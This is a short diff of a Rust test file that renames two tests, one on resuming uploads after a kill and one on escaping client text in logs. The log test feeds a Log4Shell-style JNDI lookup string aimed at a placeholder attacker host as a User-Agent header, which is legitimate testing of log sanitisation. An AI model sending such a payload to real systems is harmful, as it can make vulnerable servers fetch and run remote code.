@@ -54,7 +54,7 @@ async fn a_kill_in_mid_fill_is_resumed_by_the_next_process() {
 
 /// Sessions need no table: kill -9 between two requests of an upload costs the copy, and nothing else.
 #[tokio::test]
-async fn a_kill_in_mid_upload_is_gone_on_with_by_the_next_process() {
+async fn an_upload_goes_on_after_a_kill() {
     let hub = ScriptedRegistry::new();
     let blob = Blob::random(5, 1 << 20);
     let mut larder =
@@ -142,7 +142,7 @@ async fn the_program_serves_both_versions_on_one_port() {
 
 /// Row 151: a log is read in terminals, and by programs that believe in lines.
 #[tokio::test]
-async fn nothing_that_clients_say_is_raw_in_the_log() {
+async fn text_of_clients_is_escaped_in_the_log() {
     let hub = ScriptedRegistry::new();
     let larder = Process::before(hub.listen().await, "").await;
     let agent = [("User-Agent", "${jndi:ldap://evil.example/x}"), ("X-A", "evil.example")];
